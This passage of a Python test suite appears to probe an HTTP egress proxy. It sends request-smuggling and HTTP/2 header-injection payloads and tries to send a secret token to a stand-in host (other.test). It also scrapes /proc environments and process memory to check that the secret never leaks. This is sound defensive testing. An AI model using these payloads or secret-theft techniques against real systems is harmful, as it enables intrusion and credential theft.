    "body of HEAD": "HEAD /hello HTTP/1.1|Host: HOST|Content-Length: 44||GET /admin HTTP/1.1|Host: HOST||",
    "waits for 100": "POST /hello HTTP/1.1|Host: HOST|Expect: 100-continue|Content-Length: 4||GET /admin HTTP/1.1|Host: HOST||",
    "trailers that are no trailers": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked||0|Content-Length: 40|Host: other.test||GET /admin HTTP/1.1|Host: HOST||",
    "header of 1 MiB": "GET /hello HTTP/1.1|Host: HOST|X: " + "a" * (1 << 20) + "||",
    "10,000 headers": "GET /hello HTTP/1.1|Host: HOST|" + "".join(f"X-{number}: 1|" for number in range(10000)) + "|",
    "address of 1 MiB": "GET /hello?" + "a" * (1 << 20) + " HTTP/1.1|Host: HOST||",
}
# Those that have to be refused in words, with a receipt.
NAMED_WRONG = [
    "another host",
    "another port",
    "two hosts",
    "whole address of another host",
    "whole address, other Host",
    "CONNECT",
    "no host",
    "a host in a list",
    "a host with a name before it",
    "dots",
    "encoded dots",
    "two slashes",
]
# Those that are proper HTTP, so the first request has to be answered.
PROPER = ["pipelined", "upgrade that is not taken"]


def shapes(case):
    """Requests of doubtful shape: the origin never sees one that has no receipt."""
    ports = case.ports
    url = [f"http://api.test:{ports['http']}/hello", f"https://api.test:{ports['https']}/hello"]
    policy = case.policy(rule(["http/request"], url=url))
    work = case.laboratory.folder("shapes")
    (work / "shapes.json").write_text(json.dumps(SHAPES))
    script = """
ports = json.loads(sys.argv[1])
shapes = json.load(open("shapes.json"))
for scheme in ("http", "https"):
    for name, text in shapes.items():
        data = text.replace("|", "\\r\\n").replace("HOST", f"api.test:{ports[scheme]}").encode("latin-1")
        told[f"{scheme}, {name}"] = raw("api.test", ports[scheme], data, 0.7, "api.test" if scheme == "https" else None)[:3000]
told["sni of another"] = raw("api.test", ports["https"], f"GET /hello HTTP/1.1\\r\\nHost: api.test:{ports['https']}\\r\\n\\r\\n".encode(), 2, "other.test")
told["sni of another, its Host"] = raw("api.test", ports["https"], f"GET /hello HTTP/1.1\\r\\nHost: other.test:{ports['https']}\\r\\n\\r\\n".encode(), 2, "other.test")
told["after all"] = curl(f"http://api.test:{ports['http']}/hello")
"""
    run = case.laboratory.run(
        work,
        ["--policy", policy, "--no-apply"],
        [PYTHON, "-c", PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))", json.dumps(ports)],
        timeout=300,
    )
    told = {}
    for line in run.stdout.decode(errors="replace").splitlines():
        if line.startswith("TOLD "):
            told = json.loads(line.removeprefix("TOLD "))
    case.expect(told, f"the script in the jail ended early: {run.text[-600:]}")
    case.expect(
        "hello from" in str(told.get("after all")), f"the door does not answer any more: {told.get('after all')}"
    )
    for name in PROPER:
        for scheme in ("http", "https"):
            got = told.get(f"{scheme}, {name}", "")
            case.expect("hello from" in got, f"{scheme}, {name}: proper HTTP was not answered: {got[:200]!r}")
    for name in NAMED_WRONG:
        for scheme in ("http", "https"):
            got = told.get(f"{scheme}, {name}", "")
            case.expect(
                got.split(" ")[1:2] in (["403"], ["400"], ["421"]),
                f"{scheme}, {name}: not refused in words: {got[:200]!r}",
            )
    for name in ("sni of another", "sni of another, its Host"):
        case.expect("hello from" not in told.get(name, ""), f"{name}: answered")
    case.only_hello()
    for entry in case.seen("asked"):
        case.expect(entry["asked"].lower().rstrip(".") == "api.test", f"looked up: {entry['asked']}")
    case.nothing_unknown(run)


# What a request of HTTP/2 must not get past the door with: pseudo-headers and headers beside what is right, or for it.
FRAMES = {
    "plain": [],
    "another authority": [[":authority", "other.test"]],
    "authority with a name": [[":authority", "other.test@HOST"]],
    "another host beside it": [["host", "other.test"]],
    "host alone, another": [[":authority", None], ["host", "other.test"]],
    "no authority": [[":authority", None]],
    "another scheme": [[":scheme", "http"]],
    "scheme with an address": [[":scheme", "https://other.test/hello?"]],
    "no path": [[":path", None]],
    "path without a slash": [[":path", "hello"]],
    "whole address as path": [[":path", "https://other.test/hello"]],
    "line in the path": [[":path", "/hello HTTP/1.1\r\nHost: other.test\r\n\r\nGET /admin"]],
    "space in the path": [[":path", "/hello HTTP/1.1 /admin"]],
    "line in the method": [[":method", "GET /admin HTTP/1.1\r\nX: "]],
    "space in the method": [[":method", "GET /admin"]],
    "line in a header": [["x", "a\r\nTransfer-Encoding: chunked\r\n\r\nGET /admin HTTP/1.1"]],
    "line in a name": [["x: a\r\nhost", "other.test"]],
    "chunked": [["transfer-encoding", "chunked"]],
    "length": [["content-length", "40"]],
    "lengths that differ": [["content-length", "0"], ["content-length", "40"]],
    "connection": [["connection", "upgrade"], ["upgrade", "websocket"]],
    "colon in a name": [["transfer-encoding:", "chunked"]],
    "capitals": [["Host", "other.test"]],
    "dots": [[":path", "/hello/../admin"]],
    "CONNECT": [[":method", "CONNECT"], [":path", None], [":scheme", None], [":authority", "other.test:443"]],
    "websocket": [[":method", "CONNECT"], [":protocol", "websocket"]],
}


def frames(case):
    """The same by HTTP/2: pseudo-headers that disagree, and headers that would be two requests of HTTP/1.1."""
    ports = case.ports
    policy = case.policy(rule(["http/request"], url=[f"https://api.test:{ports['https']}/hello"]))
    work = case.laboratory.folder("frames")
    (work / "frames.json").write_text(json.dumps(FRAMES))
    script = """
import h2.config, h2.connection, h2.events
ports = json.loads(sys.argv[1])
host = f"api.test:{ports['https']}"
config = h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False,
                                   validate_inbound_headers=False, header_encoding="latin-1")
def ask(changes):
    headers = [[":method", "GET"], [":authority", host], [":scheme", "https"], [":path", "/hello"]]
    for name, value in changes:
        value = value and value.replace("HOST", host)
        at = [index for index, header in enumerate(headers) if header[0] == name and name.startswith(":")]
        if at and value is None:
            del headers[at[0]]
        elif at:
            headers[at[0]][1] = value
        else:
            headers.insert(1 if name.startswith(":") else len(headers), [name, value])
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    got = ""
    try:
        sock = context.wrap_socket(socket.create_connection(("api.test", ports["https"]), 5), server_hostname="api.test")
        connection = h2.connection.H2Connection(config)
        connection.initiate_connection()
        connection.send_headers(1, [tuple(header) for header in headers], end_stream=True)
        sock.sendall(connection.data_to_send())
        sock.settimeout(2)
        while piece := sock.recv(65536):
            for event in connection.receive_data(piece):
                if isinstance(event, h2.events.ResponseReceived):
                    got += dict(event.headers)[":status"] + " "
                elif isinstance(event, h2.events.DataReceived):
                    got += event.data.decode("latin-1")
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return got + type(event).__name__ + f" {event.error_code}"
                elif isinstance(event, h2.events.StreamEnded):
                    return got
        return got + "closed"
    except Exception as error:
        return got + repr(error)
for name, changes in json.load(open("frames.json")).items():
    told[name] = ask(changes)
"""
    run = case.laboratory.run(
        work,
        ["--policy", policy, "--no-apply"],
        [
            str(case.laboratory.tools / "venv/bin/python"),
            "-B",
            "-c",
            PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))",
            json.dumps(ports),
        ],
        timeout=200,
    )
    told = {}
    for line in run.stdout.decode(errors="replace").splitlines():
        if line.startswith("TOLD "):
            told = json.loads(line.removeprefix("TOLD "))
    case.expect("200 hello" in told.get("plain", ""), f"a plain request: {told.get('plain')!r} {run.text[-400:]}")
    for name, got in told.items():
        case.expect(got, f"{name}: no answer, and not even an end")
        if "other.test" in json.dumps(FRAMES[name]):
            case.expect("hello from" not in got, f"{name}: answered: {got[:200]!r}")
    case.only_hello()
    case.nothing_unknown(run)


def h2spec(case):
    """What h2spec says of the door's HTTP/2, by its own tests (with --h2spec PROGRAM)."""
    program = case.laboratory.h2spec
    port = case.ports["https"]
    policy = case.policy(rule(["http/request"], host=["api.test"], port=[port]))
    work = case.laboratory.folder("h2spec")
    shutil.copy(program, work / "h2spec")
    run = case.laboratory.run(
        work,
        ["--policy", policy, "--no-apply"],
        ["./h2spec", "--host", "api.test", "--port", str(port), "--tls", "--insecure", "--path", "/hello"],
        timeout=300,
    )
    text = run.stdout.decode(errors="replace")
    counts = re.search(r"(\d+) tests, (\d+) passed, (\d+) skipped, (\d+) failed", text)
    case.expect(counts, f"h2spec did not come to its end: {run.text[-600:]}")
    if counts:
        say(f"h2spec: {counts.group(0)}")
        case.expect(counts.group(4) == "0", f"{counts.group(0)}\n{text[text.find('Failures:'):][:6000]}")


def tunnels(case):
    """TLS that is not opened: its name has to be the one that was connected to."""
    ports = case.ports
    policy = case.policy(rule(["net/connect"], host=["api.test"], port=[ports["https"]]))
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
def ask(name, host):
    return raw("api.test", ports["https"], f"GET /hello HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode(), 3, name)
told["same"] = ask("api.test", "api.test")
told["other"] = ask("other.test", "other.test")
told["none"] = raw("api.test", ports["https"], b"", 3, "127.0.0.1")
""",
    )
    case.expect("hello from" not in told.get("other", ""), f"SNI of another host went through: {told.get('other')!r}")
    case.expect(
        not [entry for entry in case.seen("request") if entry["sni"] == "other.test"],
        "the origin saw the name of another host",
    )
    case.expect(
        [
            receipt
            for receipt in run.receipts
            if receipt["decision"] == "refused" and "other.test" in json.dumps(receipt)
        ],
        "no refused receipt names other.test",
    )


def disguise(case):
    """HTTP that does not begin as HTTP mostly does, where connections are allowed too: still a request, judged as one."""
    ports = case.ports
    served = [ports["http"], ports["https"]]
    policy = case.policy(
        rule(["http/request", "net/connect"], host=["api.test"], port=served)
        + '[[deny]]\neffect = ["http/request"]\nhost = ["api.test"]\nmethod = ["DELETE"]\n'
    )
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
for scheme in ("http", "https"):
    host = f"api.test:{ports[scheme]}"
    tls = "api.test" if scheme == "https" else None
    def ask(name, text, patience=1.5):
        told[f"{scheme}, {name}"] = raw("api.test", ports[scheme], text.replace("|", "\\r\\n").replace("HOST", host).encode("latin-1"), patience, tls)
    ask("small letters", "delete /hello HTTP/1.1|Host: HOST||")
    ask("an empty line before it", "|DELETE /hello HTTP/1.1|Host: HOST||")
    ask("a line feed before it", "\\nDELETE /hello HTTP/1.1|Host: HOST||")
    ask("line feeds alone", "DELETE /hello HTTP/1.1\\nHost: HOST\\n\\n")
    ask("a method of its own", "X-DELETE /hello HTTP/1.1|Host: HOST||")
    ask("HTTP/1.0", "DELETE /hello HTTP/1.0|Host: HOST||")
    ask("HTTP/2 by prior knowledge", "PRI * HTTP/2.0||SM||")
    ask("as itself", "DELETE /hello HTTP/1.1|Host: HOST||")
def slowly(port, text):
    sock = socket.create_connection(("api.test", port), 5)
    try:
        for letter in text.encode():
            sock.sendall(bytes([letter]))
            time.sleep(0.05)
        sock.settimeout(3)
        return sock.recv(4096).decode("latin-1")
    except OSError as error:
        return repr(error)
told["letter by letter"] = slowly(ports["http"], f"DELETE /hello HTTP/1.1\\r\\nHost: api.test:{ports['http']}\\r\\n\\r\\n")
""",
    )
    case.expect("403" in told.get("http, as itself", ""), f"DELETE as itself: {told.get('http, as itself')!r}")
    for entry in case.seen("request"):
        if "delete" in entry["request"].lower() and not entry["request"].startswith("X-"):
            case.wrong.append(f"the origin saw {entry['request']!r} by {entry['scheme']}")
    case.nothing_unknown(run)


# Letters that each encoding writes in its own way.
VALUE = 'zq9secret-7f3a"&/+=<b>value'


def forms(value):
    """How a value may stand in text, whole."""
    plain = value.encode()
    found = {
        plain,
        plain.hex().encode(),
        plain.hex().upper().encode(),
        json.dumps(value)[1:-1].encode(),
        json.dumps(value)[1:-1].replace("/", "\\/").encode(),
        urllib.parse.quote(value, safe="").encode(),
        urllib.parse.quote_plus(value).encode(),
        html.escape(value).encode(),
        "".join(f"\\u{ord(letter):04x}" for letter in value).encode(),
    }
    for before in range(3):
        # What is the same of it wherever it begins, by the whole groups of three bytes.
        coded = base64.b64encode(b"a" * before + plain)
        core = coded[4 * ((before + 2) // 3) : len(coded) // 4 * 4 - 4]
        found |= {core, core.replace(b"+", b"-").replace(b"/", b"_")}
    return found


def holds(data, value=VALUE):
    return [form.decode() for form in forms(value) if form in data]


def secrets(case):
    """A value that the program uses and never sees (cases 23, 24)."""
    ports = case.ports
    laboratory = case.laboratory
    served = [ports["http"], ports["https"]]
    api = f"https://api.test:{ports['https']}"
    (laboratory.scratch / "value").write_text("zq9file-0123456789\n")
    policy = case.policy(rule(["http/request"], host=["api.test", "other.test", "127.0.0.1"], port=served) + f"""
[[secret]]
name = "TOK"
from = {{ env = "SOURCE_OF_TOK" }}
to = ["{api}"]
place = ["header:Authorization"]
method = ["GET", "POST"]

[[secret]]
name = "FILE_TOK"
from = {{ file = "{laboratory.scratch}/value" }}
to = ["{api}"]
place = ["query:key"]

[[secret]]
name = "PAIR_TOK"
from = {{ user = "ann", password = {{ env = "SOURCE_OF_TOK" }} }}
to = ["{api}"]
place = ["header:Authorization"]

[[secret]]
name = "RARE_TOK"
from = {{ env = "SOURCE_OF_RARE" }}
to = ["{api}"]
place = ["header:X-Rare"]
rate = "2/min"
""")
    laboratory.environment |= {"SOURCE_OF_TOK": VALUE, "SOURCE_OF_RARE": "zq9rare-0123456789"}
    try:
        run, told = case.inside(
            policy,
            """
import os, glob, base64
ports = json.loads(sys.argv[1])
api, http = f"https://api.test:{ports['https']}", f"http://api.test:{ports['http']}"
other = f"https://other.test:{ports['https']}"
tok = os.environ.get("TOK", "")
bearer = ["-H", f"Authorization: Bearer {tok}"]
told["placeholders"] = {name: bool(os.environ.get(name)) for name in ("TOK", "FILE_TOK", "PAIR_TOK", "RARE_TOK")}
told["environment"] = dict(os.environ)
told["processes"] = "".join(open(path, errors="replace").read() for name in ("environ", "cmdline")
                            for path in glob.glob(f"/proc/[0-9]*/{name}") if os.access(path, os.R_OK))
told["right"] = curl(*bearer, f"{api}/echo")
told["right by HTTP/1.1"] = curl("--http1.1", *bearer, f"{api}/echo")
told["file"] = curl(f"{api}/echo?key={os.environ.get('FILE_TOK', '')}&b=1")
told["pair"] = curl("-H", f"Authorization: Basic {os.environ.get('PAIR_TOK', '')}", f"{api}/echo")
told["pair bare"] = curl("-H", f"Authorization: {os.environ.get('PAIR_TOK', '')}", f"{api}/echo")
told["rare"] = [curl("-o", "/dev/null", "-w", "%{http_code}", "-H", f"X-Rare: {os.environ.get('RARE_TOK', '')}", f"{api}/hello")[1] for _ in range(3)]
told["reflected"] = {how: curl("-i", *bearer, "-G", "--data-urlencode", f"how={how}", f"{api}/reflect", *more) for how, more in
    [(how, []) for how in ("plain", "json", "small json", "unicode", "html", "percent", "form", "hex", "HEX", "base64", "base64 after one",
     "base64 after two", "base64url", "header", "reason", "location", "hints", "error", "pieces", "trailer")] +
    [(how, ["--compressed"]) for how in ("gzip", "deflate")] + [("gzip, gzip", []), ("unknown", [])]}
told["unpacked"] = ""
import gzip
body = subprocess.run(["curl", "-sS", *bearer, f"{api}/reflect?how=gzip,%20gzip"], capture_output=True).stdout
try:
    told["unpacked"] = gzip.decompress(gzip.decompress(body)).decode()
except Exception as error:
    told["unpacked"] = repr(error)
told["range"] = "".join(curl(*bearer, "-r", f"{first}-{first + 9}", f"{api}/reflect?how=range")[1] for first in range(0, 60, 10))
told["elsewhere"] = {
    "another host": curl(*bearer, f"{other}/echo"), "without TLS": curl(*bearer, f"{http}/echo"),
    "an address": curl("-k", *bearer, "-H", f"Host: api.test:{ports['https']}", f"https://192.0.2.5:{ports['https']}/echo"),
    "the name at an address": curl("-k", *bearer, "--resolve", f"api.test:{ports['https']}:192.0.2.5", f"{api}/echo"),
    "another Host": curl(*bearer, "-H", f"Host: api.test:{ports['https']}", f"{other}/echo"),
    "another header": curl("-H", f"X-Other: {tok}", f"{api}/echo"), "a cookie": curl("-H", f"Cookie: a={tok}", f"{api}/echo"),
    "the query": curl(f"{api}/echo?key={tok}"), "the path": curl(f"{api}/{tok}"),
    "the body": curl("-d", f"key={tok}", f"{api}/echo"),
    "the body, chunked": curl("-H", "Transfer-Encoding: chunked", "-d", f"key={tok}", f"{api}/echo"),
    "another method": curl("-X", "PUT", *bearer, f"{api}/echo"),
    "a redirect": curl("-L", "--location-trusted", *bearer, f"{api}/redirect1?to={other}/echo"),
    "two headers": curl(*bearer, "-H", f"Authorization2: {tok}", f"{api}/echo"),
    "a header's name": curl("-H", f"{tok}: a", f"{api}/echo"),
    "the file's secret in a header": curl("-H", f"Authorization: {os.environ.get('FILE_TOK', '')}", f"{api}/echo"),
    "encoded in the query": curl(f"{api}/echo?key=" + "".join(f"%{ord(letter):02x}" for letter in tok)),
}
told["encoded"] = curl("-u", f"ann:{tok}", f"{api}/echo")
def websocket():
    sock = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", ports["https"]), 5), server_hostname="api.test")
    sock.settimeout(4)
    sock.sendall(f"GET /ws?greet=1 HTTP/1.1\\r\\nHost: api.test:{ports['https']}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                 f"Authorization: Bearer {tok}\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n".encode())
    got = b""
    try:
        while piece := sock.recv(4096):
            got += piece
    except OSError:
        pass
    return got.decode("latin-1")
told["websocket"] = websocket()
""",
            ["--record"],
        )
    finally:
        for name in ("SOURCE_OF_TOK", "SOURCE_OF_RARE"):
            laboratory.environment.pop(name)
    for name, there in told.get("placeholders", {}).items():
        case.expect(there, f"no placeholder in the variable {name}")
    arrived = [
        entry
        for entry in case.seen("request")
        if holds(json.dumps(entry["headers"]).encode()) or holds(entry["request"].encode())
    ]
    case.expect(
        [
            entry
            for entry in arrived
            if ["authorization", f"Bearer {VALUE}"] in [[name.lower(), value] for name, value in entry["headers"]]
        ],
        "the value never arrived at its own origin",
    )
    for entry in arrived:
        names = {name.lower() for name, value in entry["headers"] if holds(value.encode())}
        hosts = {value for name, value in entry["headers"] if name.lower() == "host"}
        case.expect(
            names == {"authorization"}
            and entry["scheme"] == "https"
            and hosts == {f"api.test:{ports['https']}"}
            and not holds(entry["request"].encode())
            and entry["request"].split(" ")[0] in ("GET", "POST"),
            f"the value arrived in {entry['request']!r} at {hosts}, in the headers {sorted(names)}, by {entry['scheme']}",
        )
    requests = [entry["request"] for entry in case.seen("request")]
    case.expect(
        any("key=zq9file-0123456789&b=1" in urllib.parse.unquote(request) for request in requests),
        "the file's value did not arrive in the query",
    )
    pair = base64.b64encode(f"ann:{VALUE}".encode()).decode()
    case.expect(pair in json.dumps(case.seen("request")), "the pair did not arrive")
    case.expect(
        told.get("rare") == ["200", "200", told.get("rare", [0, 0, ""])[2]]
        and told.get("rare", [0, 0, "200"])[2] != "200",
        f"2 a minute: {told.get('rare')}",
    )
    for what, (status, body, error) in told.get("reflected", {}).items():
        for value in (VALUE, "zq9rare-0123456789"):
            case.expect(
                not holds(body.encode(), value), f"{what}: the value came back as {holds(body.encode(), value)}"
            )
    for what in ("plain", "json", "header", "pieces", "gzip", "deflate", "error", "location"):
        got = told.get("reflected", {}).get(what, [1, "", ""])
        case.expect(
            got[0] == 0 and told.get("environment", {}).get("TOK", "-") in got[1],
            f"{what}: the placeholder did not come back: {str(got)[:300]}",
        )
    everything = run.stdout + run.stderr.encode()
    leaked = [
        what
        for what, got in told.items()
        if holds(json.dumps(got, ensure_ascii=False).encode("utf-8", "replace"))
        or holds(str(got).encode("utf-8", "replace"))
    ]
    case.expect(not leaked and not holds(everything), f"the program saw the value: {', '.join(leaked)}")
    case.expect(
        "zq9secret-7f3a" not in told.get("range", ""), f"the value came back in parts by ranges: {told.get('range')!r}"
    )
    for what, got in told.get("elsewhere", {}).items():
        case.expect("refused by" in str(got) or got[0] != 0, f"{what}: not refused: {str(got)[:300]}")
    refused = [receipt for receipt in run.of("http/request", "refused") if receipt["decided_by"] == "secrets"]
    for receipt in refused:
        case.expect("TOK" in receipt["reason"], f"a receipt does not name the secret: {receipt['reason']}")
    case.expect(
        len(refused) >= 12,
        f"{len(refused)} receipts of refusals by `secrets`: {[receipt['reason'][:90] for receipt in refused]}",
    )
    for path in (laboratory.scratch / "state").rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            for value in (VALUE, "zq9file-0123456789", "zq9rare-0123456789"):
                case.expect(
                    not holds(data, value),
                    f"{path.relative_to(laboratory.scratch)} holds a value as {holds(data, value)}",
                )
    absent(case, api)


def absent(case, api):
    """A source that is not set makes the secret absent, not empty; and no memory of the run holds a value."""
    laboratory = case.laboratory
    policy = case.policy(
        f"""{rule(["http/request"], host=["api.test"], port=[case.ports["https"]])}
[[secret]]
name = "NOT_TOK"
from = {{ env = "NOBODY_SET_THIS" }}
to = ["{api}"]
place = ["header:Authorization"]

[[secret]]
name = "TOK"
from = {{ env = "SOURCE_OF_TOK" }}
to = ["{api}"]
place = ["header:Authorization"]
""",
        "-absent",
    )
    script = f"""printenv NOT_TOK || echo absent; curl -sS -H "Authorization: Bearer $TOK" {api}/echo; sleep 3"""
    process = subprocess.Popen(
        [
            "tollgate",
            "run",
            "--policy",
            policy,
            "--no-apply",
            "--workspace",
            str(laboratory.folder("absent")),
            "--",
            "sh",
            "-c",
            script,
        ],
        env=laboratory.environment | {"SOURCE_OF_TOK": VALUE},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    time.sleep(2)
    looked = 0
    for pid in below(process.pid):
        data = memory(pid)
        looked += len(data)
        case.expect(not holds(data), f"the memory of process {pid} of the run holds the value")
    limits = pathlib.Path(f"/proc/{process.pid}/limits").read_text() if process.poll() is None else ""
    out, error = process.communicate()
    if os.getuid() == 0:
        case.expect(looked > 1 << 20, f"only {looked} bytes of memory could be read, which shows nothing")
    case.expect("Max core file size        0 " in limits, "the supervisor could leave a core file")
    case.expect(
        out.startswith(b"absent\n"), f"a secret without a source is there: {out[:200]!r} {error.decode()[-300:]}"
    )
    case.expect(not holds(out + error), "the value was printed")


def below(pid):
    """The processes that descend from this one."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                parent = int(pathlib.Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except OSError:
                continue
            if parent == pid:
                found += [int(entry), *below(int(entry))]
    return found


def memory(pid):
    data = b""
    try:
        maps = pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            for line in maps:
                words = line.split()
                first, last = (int(number, 16) for number in words[0].split("-"))
                if words[1].startswith("rw"):
                    try:
                        file.seek(first)
                        data += file.read(last - first)
                    except (OSError, ValueError, OverflowError):
                        continue
    except OSError:
        pass
    return data


def crowd(case):
    """A hundred connections at once."""
    port = case.ports["http"]
    policy = case.policy(rule(["http/request"], host=["api.test"], port=[port]))
    run, told = case.inside(
        policy,
        """
import threading
ports = json.loads(sys.argv[1])
gate, got = threading.Barrier(100), []
def ask(number):
    gate.wait()
    try:
        got.append(urllib.request.urlopen(f"http://api.test:{ports['http']}/slow?seconds=1&n={number}", timeout=60).read().decode())
    except OSError as error:
        got.append(repr(error))
threads = [threading.Thread(target=ask, args=(number,)) for number in range(100)]
began = time.monotonic()
for thread in threads: thread.start()
for thread in threads: thread.join()
told["got"], told["took"] = got, time.monotonic() - began
""",
    )
    wrong = [got for got in told.get("got", []) if got != "hello from the origin\n"]
    case.expect(len(told.get("got", [])) == 100 and not wrong, f"{len(wrong)} of 100 failed: {wrong[:3]}")
    # One after another they would take 100 seconds.
    case.expect(told.get("took", 100) < 30, f"took {told.get('took')} s, so they were not at once")
    case.expect(
        len(run.of("http/request", "allowed")) == 100,
        f"{len(run.of('http/request', 'allowed'))} receipts of 100 requests",
    )


def large(case):
    """256 MiB down and up, by both schemes, with flat memory in the supervisor."""
    ports = case.ports
    policy = case.policy(
        rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"], ports["http2"]])
    )
    for scheme, server in (("http", "http"), ("https", "https"), ("https", "http2")):
        base = f"{scheme}://api.test:{ports[server]}"
        peaks = {}
        for size in (1 << 20, 256 << 20):
            for way, command in (
                ("down", f"curl -sS '{base}/big?size={size}' | wc -c"),
                ("up", f"head -c {size} /dev/zero | curl -sS -T - {base}/echo -X POST -H Expect:"),
            ):
                work = case.laboratory.folder(f"large {way}")
                words = [
                    "tollgate",
                    "run",
                    "--policy",
                    policy,
                    "--no-apply",
                    "--workspace",
                    str(work),
                    "--wall",
                    "300s",
                    "--",
                    "sh",
                    "-c",
                    command,
                ]
                process = subprocess.Popen(
                    words,
                    env=case.laboratory.environment,
                    stdin=subprocess.DEVNULL,
                    stdout=subprocess.PIPE,
                    stderr=subprocess.PIPE,
                )
                peak = 0
                while process.poll() is None:
                    peak = max(peak, resident_kib(process.pid))
                    time.sleep(0.05)
                out, error = process.communicate()
                peaks[way, size] = peak
                right = out.strip() == str(size).encode() if way == "down" else f'"size": {size}'.encode() in out
                case.expect(right, f"{server}, {way}, {size} bytes: {out[-200:]!r} {error.decode()[-300:]}")
        for way in ("down", "up"):
            grown = peaks[way, 256 << 20] - peaks[way, 1 << 20]
            say(f"large, {server}, {way}: {peaks[way, 256 << 20]} KiB at most, {grown} KiB more than for 1 MiB")
            case.expect(grown < 16 << 10, f"{server}, {way}: the supervisor grew by {grown} KiB")


def resident_kib(pid):
    try:
        for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


CASES = {
    case.__name__: case
    for case in (
        protocols,
        answers,
        loopback,
        streams,
        names,
        reads,
        inward,
        shapes,
        frames,
        h2spec,
        tunnels,
        disguise,
        secrets,
        crowd,
        large,
    )
}


def all_of_them(laboratory, given):
    unknown = set(given.case) - set(CASES)
    if unknown:
        sys.exit(f"error: no case {', '.join(sorted(unknown))}; there are {', '.join(CASES)}")
    rows = []
    for name, function in CASES.items():
        if given.case and name not in given.case:
            continue
        if name == "h2spec" and not laboratory.h2spec:
            continue
        case = Case(laboratory, name)
        say(f"{name}: {function.__doc__.splitlines()[0]}")
        function(case)
        for wrong in case.wrong:
            say(f"{name}: WRONG: {wrong}")
        rows.append(
            {"case": name, "what": function.__doc__.strip(), "wrong": case.wrong, "as_expected": not case.wrong}
        )
    if not given.json:
        print()
        for row in rows:
            print(f"{'ok' if row['as_expected'] else 'WRONG':5}  {row['case']:10}  {row['what']}")
            for wrong in row["wrong"]:
                print(f"       {wrong}")
    return rows
